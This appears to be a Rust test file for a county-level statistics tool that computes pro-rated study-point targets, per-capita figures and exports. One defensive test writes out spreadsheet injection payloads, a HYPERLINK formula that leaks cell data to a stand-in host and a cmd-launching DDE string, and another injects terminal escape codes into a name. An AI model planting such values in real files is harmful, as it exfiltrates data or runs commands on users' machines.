/// | points (year to date) | 2025-12-31 | 2026-06-30 | 2026-09-30 | 2026-12-31 | 2027-03-31 |
/// |-----------------------|-----------:|-----------:|-----------:|-----------:|-----------:|
/// | m1 (a)                | 6800       | 3000       | 5300       | 7100       | 1800       |
/// | m2 (a/x)              |            | 3500       | 5200       |            |            |
/// | m4 (a/x)              |            | 4000       | 5235       |            |            |
/// | m3 (b)                |            | 2000       | 5236       |            |            |
///
/// At 2026-09-30 the threshold is 7000 × 273/365 = 5235.616: m1 and m3
/// reach it, m2 and m4 do not (by a share of days, 1764.4, all four would).
const YTD_CONFIG: &str = r#"
[daemon]
timezone = "Asia/Shanghai"

[[units]]
id = "county"
name = "某县"
[[units]]
id = "county/a"
name = "县甲"
headcount = 3
[[units]]
id = "county/a/x"
name = "甲下属"
headcount = 2
[[units]]
id = "county/b"
name = "县乙"

[[indicators]]
id = "points"
name = "学习强国本年积分"
kind = "level"
unit = "分"
accumulates = "year"
[[indicators]]
id = "posts"
name = "发文数"
kind = "count"
unit = "篇"
per_capita = true

[[targets]]
indicator = "points"
per = "entity"
period = "year"
min = 7000

[[sources]]
id = "xuexi"
plugin = "xuexi"
units = ["county"]
schedule = "0 3 * * *"
[[sources]]
id = "forms"
plugin = "csv_form"
units = ["county"]
schedule = "0 3 * * *"
"#;

fn ytd_fixture() -> Fixture {
    let config = Config::parse(YTD_CONFIG, Path::new("t.toml"), &|_| None).unwrap();
    let tree = config.unit_tree().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let store = SqliteStore::open(dir.path()).unwrap();
    let x = |unit: &str, entity: &str, day: &str, v: f64| {
        obs("xuexi", unit, "points", entity, d(day), v)
    };
    run(
        &store,
        "xuexi",
        RunResult::Success,
        ("2025-10-01", "2027-04-01"),
        "2027-04-01T00:00:00Z",
        &[
            x("county/a", "m1", "2025-12-31", 6800.0),
            x("county/a", "m1", "2026-06-30", 3000.0),
            x("county/a", "m1", "2026-09-30", 5300.0),
            x("county/a", "m1", "2026-12-31", 7100.0),
            x("county/a", "m1", "2027-03-31", 1800.0),
            x("county/a/x", "m2", "2026-06-30", 3500.0),
            x("county/a/x", "m2", "2026-09-30", 5200.0),
            x("county/a/x", "m4", "2026-06-30", 4000.0),
            x("county/a/x", "m4", "2026-09-30", 5235.0),
            x("county/b", "m3", "2026-06-30", 2000.0),
            x("county/b", "m3", "2026-09-30", 5236.0),
        ],
    );
    let p = |unit: &str, v: f64| obs("forms", unit, "posts", "", d("2026-08-01"), v);
    run(
        &store,
        "forms",
        RunResult::Success,
        ("2025-10-01", "2027-04-01"),
        "2027-04-01T00:00:00Z",
        &[
            p("county", 10.0),
            p("county/a", 6.0),
            p("county/a/x", 4.0),
            p("county/b", 8.0),
        ],
    );
    let emits = [("xuexi", "points"), ("forms", "posts")]
        .into_iter()
        .map(|(s, i)| (s.to_owned(), vec![i.to_owned()]))
        .collect();
    Fixture {
        _dir: dir,
        config,
        tree,
        store,
        emits,
    }
}

/// 7000 × 273 / 365: the yearly target pro-rated to 2026-09-30.
const Q3_YTD_MIN: f64 = 7000.0 * 273.0 / 365.0;

#[test]
fn a_year_to_date_target_is_the_yearly_minimum_pro_rated_to_the_periods_end() {
    let f = ytd_fixture();
    let s = f.q3();
    assert!(close(Q3_YTD_MIN, 5235.616438356164));
    for (unit, met, total) in [
        ("county", 2, 4),
        ("county/a", 1, 3),
        ("county/a/x", 0, 2),
        ("county/b", 1, 1),
    ] {
        let t = target(&s, unit, "points").unwrap();
        assert_eq!(t.per, Per::Entity);
        assert!(close(t.min, Q3_YTD_MIN), "{unit}: {}", t.min);
        assert_eq!((t.met, t.total), (Some(met), Some(total)), "{unit}");
        assert_eq!(t.ratio, Some(met as f64 / total as f64), "{unit}");
    }
    // The values are the sheets' at the quarter's end.
    check(
        &s,
        "county/a",
        "points",
        (
            Some(5300.0 + 5200.0 + 5235.0),
            Some(3000.0 + 3500.0 + 4000.0),
            false,
            false,
        ),
    );
}

#[test]
fn a_year_to_date_target_in_a_running_period_is_pro_rated_to_today() {
    let f = ytd_fixture();
    // 2026-08-15 is day 227 of 2026. The table holds what is stored for the
    // quarter (the 09-30 sheet), all four above 7000 × 227/365 = 4353.4.
    let s = f
        .summary("2026-Q3", None, None, at("2026-08-15T12:00:00+08:00"))
        .unwrap();
    let t = target(&s, "county", "points").unwrap();
    assert!(close(t.min, 7000.0 * 227.0 / 365.0), "{}", t.min);
    assert_eq!((t.met, t.total), (Some(4), Some(4)));
    // The month of August to date asks the same: the value counts from 1 January.
    let aug = f
        .summary("2026-08", None, None, at("2026-08-15T12:00:00+08:00"))
        .unwrap();
    let t = target(&aug, "county", "points").unwrap();
    assert!(close(t.min, 7000.0 * 227.0 / 365.0), "{}", t.min);
    // Before the period begins there is no target yet.
    let q4 = f
        .summary("2026-Q4", None, None, at("2026-08-15T12:00:00+08:00"))
        .unwrap();
    assert_eq!(target(&q4, "county", "points"), None);
}

#[test]
fn the_change_of_a_year_to_date_value_is_growth_and_restarts_with_the_year() {
    let f = ytd_fixture();
    let c = |s: &Summary, unit: &str| {
        let c = cell(s, unit, "points");
        (c.value, c.previous, c.change, c.change_ratio)
    };
    // Q3 over Q2, within the year: growth since 06-30.
    let q3 = f.q3();
    assert_eq!(
        c(&q3, "county/a"),
        (
            Some(15735.0),
            Some(10500.0),
            Some(5235.0),
            Some(5235.0 / 10500.0)
        )
    );
    assert_eq!(
        c(&q3, "county"),
        (
            Some(20971.0),
            Some(12500.0),
            Some(8471.0),
            Some(8471.0 / 12500.0)
        )
    );
    // 2027-Q1 after 2026-Q4: the count restarted on 1 January, so the
    // growth is the value itself, and no ratio to last year's total.
    let q1 = f
        .summary("2027-Q1", None, None, at("2027-04-01T00:00:00Z"))
        .unwrap();
    assert_eq!(
        c(&q1, "county/a"),
        (Some(1800.0), Some(7100.0), Some(1800.0), None)
    );
    let t = target(&q1, "county/a", "points").unwrap();
    assert!(close(t.min, 7000.0 * 90.0 / 365.0), "{}", t.min);
    assert_eq!((t.met, t.total), (Some(1), Some(1)));
    // The same restart across years for a year and for 2026-Q1 (after 2025-Q4).
    let year = f
        .summary("2026", None, None, at("2027-04-01T00:00:00Z"))
        .unwrap();
    assert_eq!(
        c(&year, "county/a"),
        (Some(17535.0), Some(6800.0), Some(17535.0), None)
    );
    // A count is unaffected: posts' change is still value - previous.
    let posts = cell(&q1, "county", "posts");
    assert_eq!((posts.value, posts.change), (None, None));
    assert_eq!(cell(&q3, "county", "posts").change, None);
}

#[test]
fn per_capita_leaves_units_without_a_headcount_out_of_both_sides() {
    let f = ytd_fixture();
    let s = f.q3();
    let pc = |unit: &str| {
        let row = s.units.iter().find(|u| u.id == unit).unwrap();
        let c = row.values.get("posts").unwrap();
        (c.value, row.subtree_headcount, c.per_capita)
    };
    // x: 4 posts, 2 people; a: 6 + 4 over 3 + 2.
    assert_eq!(pc("county/a/x"), (Some(4.0), Some(2), Some(2.0)));
    assert_eq!(pc("county/a"), (Some(10.0), Some(5), Some(2.0)));
    // b has no headcount: no per capita, and at the county neither b's 8
    // nor the county's own 10 (no headcount either) are divided by a's and
    // x's people: (6 + 4) / 5, though the county's value is 28.
    assert_eq!(pc("county/b"), (Some(8.0), None, None));
    assert_eq!(pc("county"), (Some(28.0), Some(5), Some(2.0)));
    // Points do not ask for it.
    assert_eq!(cell(&s, "county/a", "points").per_capita, None);
}

#[test]
fn met_and_total_of_a_year_to_date_target_in_every_format() {
    let f = ytd_fixture();
    let s = f.q3();

    let json = serde_json::to_value(&s).unwrap();
    let county = &json["units"][0]["values"]["points"]["target"];
    assert_eq!(county["per"], "entity");
    assert_eq!(
        (county["met"].as_u64(), county["total"].as_u64()),
        (Some(2), Some(4))
    );
    assert_eq!(county["ratio"], 0.5);
    assert!(close(county["min"].as_f64().unwrap(), Q3_YTD_MIN));

    let text = String::from_utf8(to_csv(&s)[3..].to_vec()).unwrap();
    let mut lines = text.lines();
    let header = lines.next().unwrap();
    assert!(
        header.ends_with(",目标学习强国本年积分(分),达标率学习强国本年积分,备注"),
        "{header}"
    );
    let rows: Vec<&str> = lines.collect();
    assert!(
        rows[0].starts_with("county,某县,20971,28,12500,"),
        "{}",
        rows[0]
    );
    assert!(rows[0].ends_with(",5235.62,0.5,"), "{}", rows[0]);
    assert!(rows[2].ends_with(",5235.62,0,"), "{}", rows[2]);

    let md = to_markdown(&s);
    let row = md.lines().find(|l| l.starts_with("| 某县 |")).unwrap();
    assert!(row.ends_with("| 5235.6 | 2/4（50%） |"), "{row}");
    assert!(row.contains("| 28（人均 2） |"), "{row}");

    let bytes = to_xlsx(&s).unwrap();
    let mut wb: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    use calamine::{Data, Reader};
    let t = wb.worksheet_range("统计表").unwrap();
    let at = |r: u32, c: u32| t.get_value((r, c)).cloned().unwrap_or(Data::Empty);
    // Points first: 本期, 上期, 每人目标, 达标人数, 人数, 达标率; row 5 is the county.
    assert_eq!(at(4, 3), Data::String("每人目标".into()));
    assert_eq!(at(5, 1), Data::Float(20971.0));
    assert!(matches!(at(5, 3), Data::Float(v) if close(v, Q3_YTD_MIN)));
    assert_eq!(
        (at(5, 4), at(5, 5), at(5, 6)),
        (Data::Float(2.0), Data::Float(4.0), Data::Float(0.5))
    );
    // Both status rows say complete, each of what it speaks of.
    assert_eq!(
        at(1, 0),
        Data::String(
            "数据来源完整：2 个数据源在本期每一天都已采集，没有失败（见「数据来源」）；生成于 2026-10-01T02:00:00+08:00".into()
        )
    );
    assert_eq!(
        at(2, 0),
        Data::String("报送单位完整：数据源覆盖的单位在本期都有数据，没有未报送".into())
    );
}

#[test]
fn metrics_give_the_year_to_date_ratio_in_every_window() {
    let f = ytd_fixture();
    let metrics = Metrics::new();
    let ratio = |unit: &str, window: &str| {
        let series = format!(
            "tally_target_ratio{{indicator=\"points\",unit=\"{unit}\",window=\"{window}\"}} "
        );
        metrics
            .encode()
            .lines()
            .find_map(|l| l.strip_prefix(&series).map(|v| v.parse::<f64>().unwrap()))
    };
    // On 2026-09-30 the day, the month, the quarter and the year to date all
    // end that day: the sheet of the day against 5235.6, 2 of 4.
    refresh_indicators(&metrics, &f.config, &f.tree, &f.store, d("2026-09-30")).unwrap();
    for window in ["day", "month", "quarter", "year"] {
        assert_eq!(ratio("county", window), Some(0.5), "{window}");
        assert_eq!(ratio("county/a/x", window), Some(0.0), "{window}");
        assert_eq!(ratio("county/b", window), Some(1.0), "{window}");
    }
    // On 2026-10-01 no sheet is dated in the day, month or quarter; the year
    // to date asks 7000 × 274/365 = 5254.8, which m3 (5236) no longer reaches.
    refresh_indicators(&metrics, &f.config, &f.tree, &f.store, d("2026-10-01")).unwrap();
    for window in ["day", "month", "quarter"] {
        assert_eq!(ratio("county", window), None, "{window}");
    }
    assert_eq!(ratio("county", "year"), Some(0.25));
    assert_eq!(ratio("county/b", "year"), Some(0.0));
}

/// A platform with accounts for two of three bureaus, as `coverage` says it:
/// listed, only those two are expected to report; as subtrees, all are.
#[test]
fn listed_coverage_expects_exactly_the_listed_units() {
    let flags = |units_and_coverage: &str| {
        let text = format!(
            "[[units]]\nid = \"county\"\nname = \"某县\"\n\
             [[units]]\nid = \"county/a\"\nname = \"甲\"\n\
             [[units]]\nid = \"county/b\"\nname = \"乙\"\n\
             [[units]]\nid = \"county/c\"\nname = \"丙\"\n\
             [[indicators]]\nid = \"posts\"\nname = \"发文\"\nkind = \"count\"\nunit = \"篇\"\n\
             [[sources]]\nid = \"platform\"\nplugin = \"http_json\"\nschedule = \"0 3 * * *\"\n{units_and_coverage}\n"
        );
        let config = Config::parse(&text, Path::new("t.toml"), &|_| None).unwrap();
        let tree = config.unit_tree().unwrap();
        let dir = tempfile::tempdir().unwrap();
        let store = SqliteStore::open(dir.path()).unwrap();
        let p = |unit: &str, v: f64| obs("platform", unit, "posts", "", d("2026-08-01"), v);
        run(
            &store,
            "platform",
            RunResult::Success,
            ("2026-07-01", "2026-09-30"),
            "2026-09-30T17:30:00Z",
            &[p("county/a", 3.0), p("county/c", 4.0)],
        );
        let emits = HashMap::from([("platform".to_owned(), vec!["posts".to_owned()])]);
        let req = SummaryRequest::new(Period::parse("2026-Q3").unwrap());
        let s = build(&config, &tree, &store, &emits, &req, after_q3()).unwrap();
        ["county", "county/a", "county/b", "county/c"]
            .map(|u| {
                let c = cell(&s, u, "posts");
                (c.value, c.missing, c.incomplete)
            })
            .to_vec()
    };
    // Listed: 乙 has no account, so it is neither 未报送 nor makes the county
    // incomplete.
    assert_eq!(
        flags("units = [\"county/a\", \"county/c\"]\ncoverage = \"listed\""),
        [
            (Some(7.0), false, false),
            (Some(3.0), false, false),
            (None, false, false),
            (Some(4.0), false, false),
        ]
    );
    // The subtree of the county: 乙 is 未报送 and the county incomplete.
    assert_eq!(
        flags("units = [\"county\"]"),
        [
            (Some(7.0), false, true),
            (Some(3.0), false, false),
            (None, true, false),
            (Some(4.0), false, false),
        ]
    );
    // `unit = "county"`: the county alone is expected, and it has data from
    // below.
    assert_eq!(
        flags("unit = \"county\""),
        [
            (Some(7.0), false, false),
            (Some(3.0), false, false),
            (None, false, false),
            (Some(4.0), false, false),
        ]
    );
    // A listed unit with nothing is 未报送, and its parent incomplete.
    assert_eq!(
        flags("units = [\"county/a\", \"county/b\"]\ncoverage = \"listed\"")[..3],
        [
            (Some(7.0), false, true),
            (Some(3.0), false, false),
            (None, true, false),
        ]
    );
}

#[test]
fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
    let f = fixture();
    let mut s = f.q3();
    s.units[0].name = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")".into();
    s.units[1].name = "+1+cmd|' /C calc'!A0".into();
    s.units[2].name = "-2+3".into();
    s.indicators[0].name = "@SUM(1+1)".into();
    s.units[0].values.0[0].1.value = Some(-5.0);
    let bytes = to_csv(&s);
    let mut reader = ::csv::Reader::from_reader(&bytes[3..]);
    let header = reader.headers().unwrap().clone();
    assert!(header[2].starts_with("'@SUM(1+1)"), "{header:?}");
    let rows: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(
        &rows[0][1],
        "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
    );
    assert_eq!(&rows[1][1], "'+1+cmd|' /C calc'!A0");
    assert_eq!(&rows[2][1], "'-2+3");
    assert_eq!(&rows[0][2], "-5", "a negative value stays a number");
    assert_eq!(&rows[0][0], "county", "ordinary text is left alone");
}

#[test]
fn explain_table_escapes_control_characters_of_entities() {
    let f = fixture();
    let req = ExplainRequest {
        period: Period::parse("2026-Q3").unwrap(),
        unit: "county/natres".into(),
        indicator: "xuexi_points".into(),
    };
    let mut e = explain(&f.config, &f.tree, &f.store, &req).unwrap();
    e.observations[0].entity = "alice\nEVIL  county/x  9999\u{1b}[31m\tred\r".into();
    let table = e.to_table();
    // A title, a heading and one line per observation: the newline did not
    // make a row of its own.
    assert_eq!(table.lines().count(), 2 + e.observations.len(), "{table}");
    assert!(
        table.contains("alice\\nEVIL  county/x  9999\\u{1b}[31m\\tred\\r"),
        "{table}"
    );
    assert!(!table.contains('\u{1b}') && !table.contains('\t') && !table.contains('\r'));
}

#[test]
fn metrics_bounds_leave_out_units_indicators_and_windows_but_not_the_summary() {
    let f = fixture();
    let bounded = format!(
        "{CONFIG}\n[metrics]\nindicator_max_depth = 1\nindicators = [\"wechat_posts\"]\nwindows = [\"year\"]\n"
    );
    let config = Config::parse(&bounded, Path::new("t.toml"), &|_| None).unwrap();
    let metrics = Metrics::new();
    refresh_indicators(&metrics, &config, &f.tree, &f.store, d("2026-10-01")).unwrap();
    let text = metrics.encode();
    let samples: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("tally_indicator_value{") || l.starts_with("tally_target_ratio{"))
        .collect();
    assert!(!samples.is_empty(), "{text}");
    for line in &samples {
        assert!(line.contains("indicator=\"wechat_posts\""), "{line}");
        assert!(line.contains("window=\"year\""), "{line}");
        assert!(!line.contains("county/natres/office"), "{line}");
    }
    assert!(text.contains(
        "tally_indicator_value{indicator=\"wechat_posts\",unit=\"county/natres\",window=\"year\"} 31\n"
    ));
    // The units left out have no tally_unit_info either; the summary keeps them.
    assert!(!text.contains("unit=\"county/natres/office\""), "{text}");
    let summary = f.summary("2026-Q3", None, None, after_q3()).unwrap();
    assert!(summary.units.iter().any(|u| u.id == "county/natres/office"));
}
